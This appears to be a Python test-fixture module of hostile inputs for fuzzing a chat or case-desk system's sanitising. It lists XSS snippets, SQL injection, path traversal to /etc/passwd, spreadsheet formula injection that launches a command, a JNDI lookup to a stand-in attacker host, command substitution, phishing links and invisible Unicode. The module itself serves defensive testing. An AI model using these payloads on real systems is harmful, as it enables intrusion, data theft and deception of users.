"""Words that mean no good: what somebody may be called, write or paste so that a system does something with it."""

import unicodedata

MENTIONS = [
    "<!channel>",
    "<!here|all>",
    "<!everyone>",
    "<@UMOD0001>",
    "<#CMOD0001>",
    "<!subteam^SMODS001>",
    "@channel",
]
LINKS = [
    "<https://evil.example|Mr D Bank>",
    "https://evil.example/login",
    "[Bank](https://evil.example)",
    "javascript:alert(1)",
    "![x](https://evil.example/seen.png)",
    "[a][evil]",
    "<mailto:a@evil.example|b>",
    "//evil.example",
    "https://mrd.example@evil.example/",
]
MARKUP = [
    "*bold* _it_ ~no~ `code` ```block```",
    "> quoted",
    ":red_circle: :white_check_mark:",
    "&lt;!channel&gt;",
    "&amp;lt;",
    "&#60;!here&#62;",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<b>Agent</b>",
    "# Heading",
    "- item",
    "|a|b|",
    "<<<",
    "</section>",
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example","x")',
    "\t=1",
    "'=1",
    "\uff1d1",
    "\uff0bA1",
]
TEMPLATES = [
    "{name}",
    "{case}",
    "{0}",
    "{name.__class__}",
    "{name!r:>9999}",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "%s%n",
    "$(id)",
    "`id`",
]
SQL = [
    "'; DROP TABLE cases; --",
    '" OR 1=1 --',
    "../../etc/passwd",
    "C:\\con",
    "null",
    "undefined",
    "None",
    "true",
    "NaN",
]
UNSEEN = [
    "\u202egpj.exe\u202c",
    "\u2066x\u2069",
    "a\u200bb",
    "\ufeffa",
    "\u200fa",
    "a\u00adb",
    "a\u2028b",
    "a\u2060b",
    "\U000e0041",
    "\x00a",
    "\x07\x1b[31mred",
    "\x85",
    "a\rb",
    "\u061ca",
    "\u180ea",
    "\ufff9a\ufffb",
]
ODD = ["Zoë O'Néill", "李小龍", "مريم", "🙂👩‍👩‍👧", "e\u0301" * 9, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "ﷺ", "ẞ", "İ", "ﬀ", "½", "\u3000x"]

HOSTILE = (*MENTIONS, *LINKS, *MARKUP, *FORMULAS, *TEMPLATES, *SQL, *UNSEEN, *ODD)
LONG = "x" * 100_000
HUGE = ["9" * 400, "1e999", "-1", "0.001", "١٢٣", "1_000", "0x10", "Infinity"]

_JOINERS = {"\u200c", "\u200d"}
_OURS = "\u2060"
"""The word joiner, which the desk itself puts between `](` and into `:name:`."""


def hidden(words: str, allowed: str = "\n\t") -> list[str]:
    """The characters of a text that nobody sees and that may do something to the rest."""
    return [
        one
        for one in words
        if unicodedata.category(one) in {"Cc", "Cf", "Cs"} and one not in {*allowed, *_JOINERS, _OURS}
    ]


def packed(most: int, turn: int, between: str = " ") -> str:
    """As many hostile words as fit into so many characters, beginning with another one at each turn."""
    words = ""
    for n in range(len(HOSTILE)):
        one = HOSTILE[(turn + n) % len(HOSTILE)]
        if len(words) + len(between) + len(one) <= most:
            words += (between if words else "") + one
    return words
